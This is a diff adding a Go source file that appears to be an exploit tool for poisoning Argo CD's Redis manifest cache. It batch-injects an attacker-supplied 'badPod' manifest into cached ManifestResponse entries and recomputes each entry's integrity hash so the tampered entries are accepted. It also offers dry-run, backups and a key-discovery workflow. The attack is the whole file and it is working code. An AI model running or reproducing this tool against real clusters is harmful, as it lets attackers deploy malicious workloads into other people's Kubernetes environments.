@@ -0,0 +1,210 @@
+package main
+
+import (
+	"bufio"
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"flag"
+	"fmt"
+	"os"
+	"os/signal"
+	"path/filepath"
+	"strings"
+	"sync"
+
+	"github.com/argoproj/argo-cd/v2/reposerver/apiclient"
+	"golang.org/x/sync/errgroup"
+)
+
+// applyManifest inserts payload into resp according to mode: "replace"
+// overwrites Manifests[index] (the default, matching the original hardcoded
+// Manifests[0] behavior), "append" and "prepend" grow the slice instead.
+func applyManifest(resp *apiclient.ManifestResponse, payload string, index int, mode string) error {
+	if resp == nil {
+		return fmt.Errorf("cached entry has no ManifestResponse (likely stuck in an error state)")
+	}
+
+	switch mode {
+	case "append":
+		resp.Manifests = append(resp.Manifests, payload)
+	case "prepend":
+		resp.Manifests = append([]string{payload}, resp.Manifests...)
+	case "", "replace":
+		if index < 0 || index >= len(resp.Manifests) {
+			return fmt.Errorf("manifest index %d out of range (have %d manifests)", index, len(resp.Manifests))
+		}
+		resp.Manifests[index] = payload
+	default:
+		return fmt.Errorf("unknown -manifest-mode %q", mode)
+	}
+	return nil
+}
+
+type batchResult struct {
+	key string
+	err error
+}
+
+// runBatchInject injects badPod into every key listed in keysFilePath using a
+// bounded worker pool, so a single repo cache that maps to dozens of distinct
+// manifest keys can be hit in one run. It honors context cancellation on
+// Ctrl-C and prints a per-key success/failure summary at the end.
+func runBatchInject(rediscache *redisCache, keysFilePath, podFilePath, backupDir string, dryRun bool, concurrency, manifestIndex int, manifestMode string) error {
+	if keysFilePath == "" || podFilePath == "" {
+		flag.Usage()
+		return fmt.Errorf("both -keys and -pod flags are required")
+	}
+	if concurrency < 1 {
+		concurrency = 1
+	}
+
+	keys, err := readKeysFile(keysFilePath)
+	if err != nil {
+		return err
+	}
+	if len(keys) == 0 {
+		return fmt.Errorf("no keys found in %s", keysFilePath)
+	}
+
+	podData, err := os.ReadFile(podFilePath)
+	if err != nil {
+		return fmt.Errorf("error reading pod file: %w", err)
+	}
+	badPod := strings.TrimSpace(string(podData))
+
+	var backups *backupNamer
+	if backupDir != "" {
+		if err := os.MkdirAll(backupDir, 0o700); err != nil {
+			return fmt.Errorf("error creating backup directory: %w", err)
+		}
+		backups = newBackupNamer(backupDir)
+	}
+
+	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
+	defer stop()
+
+	g, ctx := errgroup.WithContext(ctx)
+	g.SetLimit(concurrency)
+
+	results := make([]batchResult, len(keys))
+	for i, key := range keys {
+		i, key := i, key
+		g.Go(func() error {
+			if err := ctx.Err(); err != nil {
+				results[i] = batchResult{key: key, err: err}
+				return nil
+			}
+			err := injectKey(rediscache, key, badPod, backups, dryRun, manifestIndex, manifestMode)
+			results[i] = batchResult{key: key, err: err}
+			return nil
+		})
+	}
+	_ = g.Wait()
+
+	return printBatchSummary(results)
+}
+
+func injectKey(rediscache *redisCache, key, badPod string, backups *backupNamer, dryRun bool, manifestIndex int, manifestMode string) error {
+	var cachedManifest CachedManifestResponse
+	codec, err := rediscache.Get(key, &cachedManifest)
+	if err != nil {
+		return fmt.Errorf("get failed: %w", err)
+	}
+
+	if backups != nil {
+		path, err := backups.pathFor(key)
+		if err != nil {
+			return fmt.Errorf("backup failed: %w", err)
+		}
+		if err := writeBackup(path, codec, cachedManifest.shallowCopy()); err != nil {
+			return fmt.Errorf("backup failed: %w", err)
+		}
+	}
+
+	if err := applyManifest(cachedManifest.ManifestResponse, badPod, manifestIndex, manifestMode); err != nil {
+		return err
+	}
+
+	cacheEntryHash, err := cachedManifest.generateCacheEntryHash()
+	if err != nil {
+		return fmt.Errorf("hash failed: %w", err)
+	}
+	cachedManifest.CacheEntryHash = cacheEntryHash
+
+	if dryRun {
+		return nil
+	}
+
+	if err := rediscache.Set(key, &cachedManifest, codec); err != nil {
+		return fmt.Errorf("set failed: %w", err)
+	}
+	return nil
+}
+
+// readKeysFile reads one redis key per line, e.g. the output of -mode
+// discover with everything but the KEY column stripped out.
+func readKeysFile(path string) ([]string, error) {
+	f, err := os.Open(path)
+	if err != nil {
+		return nil, fmt.Errorf("error reading keys file: %w", err)
+	}
+	defer f.Close()
+
+	var keys []string
+	scanner := bufio.NewScanner(f)
+	for scanner.Scan() {
+		if key := strings.TrimSpace(scanner.Text()); key != "" {
+			keys = append(keys, key)
+		}
+	}
+	return keys, scanner.Err()
+}
+
+// backupNamer maps manifest cache keys to backup file paths by hashing the
+// key, so keys that differ only in a character a naive replacer would
+// collapse (e.g. "|" vs ":") still get distinct filenames. It also guards
+// against the one case hashing can't rule out - a genuine collision - by
+// tracking which key each filename was handed out for and failing loudly if
+// a second, different key maps to the same one.
+type backupNamer struct {
+	dir  string
+	mu   sync.Mutex
+	seen map[string]string
+}
+
+func newBackupNamer(dir string) *backupNamer {
+	return &backupNamer{dir: dir, seen: make(map[string]string)}
+}
+
+func (b *backupNamer) pathFor(key string) (string, error) {
+	sum := sha256.Sum256([]byte(key))
+	name := hex.EncodeToString(sum[:]) + ".json"
+
+	b.mu.Lock()
+	defer b.mu.Unlock()
+
+	if existing, ok := b.seen[name]; ok && existing != key {
+		return "", fmt.Errorf("backup filename collision: keys %q and %q both hash to %s", existing, key, name)
+	}
+	b.seen[name] = key
+
+	return filepath.Join(b.dir, name), nil
+}
+
+func printBatchSummary(results []batchResult) error {
+	var failures int
+	for _, r := range results {
+		if r.err != nil {
+			failures++
+			fmt.Printf("FAIL  %s: %s\n", r.key, r.err)
+		} else {
+			fmt.Printf("OK    %s\n", r.key)
+		}
+	}
+	fmt.Printf("\n%d/%d keys succeeded\n", len(results)-failures, len(results))
+	if failures > 0 {
+		return fmt.Errorf("%d of %d keys failed", failures, len(results))
+	}
+	return nil
+}